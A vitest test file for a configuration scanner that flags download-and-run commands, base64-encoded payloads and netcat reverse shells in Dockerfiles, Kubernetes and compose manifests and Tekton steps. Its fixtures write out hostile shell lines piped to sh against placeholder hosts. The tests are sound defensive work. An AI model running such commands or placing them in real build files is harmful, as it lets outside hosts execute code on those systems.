import { describe, expect, it } from "vitest";
import type { Profile } from "../../server/src/core/rules/rule.ts";
import { analyzeText } from "../harness.ts";

function found(name: string, text: string, profile: Profile = "audit"): [string, string][] {
  return analyzeText(name, text, { profile }).findings.map((finding) => [finding.rule, finding.severity]);
}

const step = (script: string) => `apiVersion: tekton.dev/v1
kind: Task
metadata: { name: build }
spec:
  steps:
    - name: run
      image: registry.example/build:1
      script: |
        ${script}
`;

describe("where fetched code runs", () => {
  const run = "FROM a\nRUN curl https://get.example/x | sh\n";

  it("is information of the strict profile in RUN and in workflow engines' steps", () => {
    expect(found("Dockerfile", run, "strict")).toEqual([["download-and-run", "information"]]);
    expect(found("Dockerfile", run, "recommended")).toEqual([]);
    const { findings } = analyzeText("task.yaml", step("curl https://get.example/x | sh"), { profile: "strict" });
    expect(findings.map((finding) => [finding.rule, finding.severity])).toEqual([["download-and-run", "information"]]);
    expect(findings[0]?.message).toMatch(/^Each run of this step executes whatever `get.example` serves/);
    expect(found("task.yaml", step("curl https://get.example/x | sh"), "recommended")).toEqual([]);
  });

  it("is an error at the start, in hooks, probes and health checks", () => {
    const pod = (field: string) =>
      `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: c\n      image: a\n      ${field}\n`;
    const command = '{ command: [sh, -c, "curl https://get.example/x | sh"] }';
    const texts: [string, string][] = [
      ["Dockerfile", "FROM a\nCMD curl https://get.example/x | sh\n"],
      ["Dockerfile", "FROM a\nHEALTHCHECK CMD curl https://get.example/x | sh\n"],
      ["manifest.yaml", pod(`livenessProbe: { exec: ${command} }`)],
      ["manifest.yaml", pod(`lifecycle: { preStop: { exec: ${command} } }`)],
      ["compose.yaml", 'services:\n  a:\n    image: b\n    command: sh -c "curl https://get.example/x | sh"\n'],
    ];
    for (const [name, text] of texts)
      expect(found(name, text, "recommended"), text).toEqual([["download-and-run", "error"]]);
  });

  it("is found in the heredoc of a RUN, each place once", () => {
    const text = "FROM a\nRUN <<END\ncurl https://a.example/x | sh\nwget -O f https://b.example/y\nbash f\nEND\n";
    expect(found("Dockerfile", text)).toEqual([
      ["download-and-run", "information"],
      ["download-and-run", "information"],
    ]);
  });
});

describe("an encoded payload", () => {
  it("is an error everywhere, in RUN and workflow engines' steps too", () => {
    const script = "echo aWQ= | base64 -d | sh";
    expect(found("Dockerfile", `FROM a\nRUN ${script}\n`, "recommended")).toEqual([["encoded-payload", "error"]]);
    const { findings } = analyzeText("task.yaml", step(script), { profile: "recommended" });
    expect(findings.map((finding) => [finding.rule, finding.severity])).toEqual([["encoded-payload", "error"]]);
    expect(findings[0]?.message).toMatch(/^This step runs a script/);
  });

  it("says what it decodes to, in short", () => {
    const script = Array.from({ length: 20 }, () => "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcv").join("");
    const { findings } = analyzeText("Dockerfile", `FROM a\nCMD echo ${script} | base64 -d | sh\n`);
    expect(findings[0]?.message).toContain("(it decodes to `curl http://203.0.113.7/curl");
    expect(findings[0]?.message.length).toBeLessThan(230);
  });
});

describe("one cause gives one finding", () => {
  it.each([
    ["curl https://get.example/x | base64 -d | sh", "encoded-payload"],
    ["echo aWQ= | base64 -d | sh", "encoded-payload"],
    ["nc get.example 80 | base64 -d | sh", "reverse-shell"],
    ["nc get.example 80 | sh", "reverse-shell"],
    ['eval \\"$(nc get.example 80)\\"', "reverse-shell"],
    ["bash <(nc get.example 80)", "reverse-shell"],
    ["curl telnet://get.example:80 | sh", "reverse-shell"],
    ["curl https://get.example/x | sh; sleep infinity", "download-and-run"],
  ])("%s", (script, rule) => {
    const text = `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - command: [bash, -c, "${script}"]\n`;
    expect(found("manifest.yaml", text).map(([id]) => id)).toEqual([rule]);
  });
});
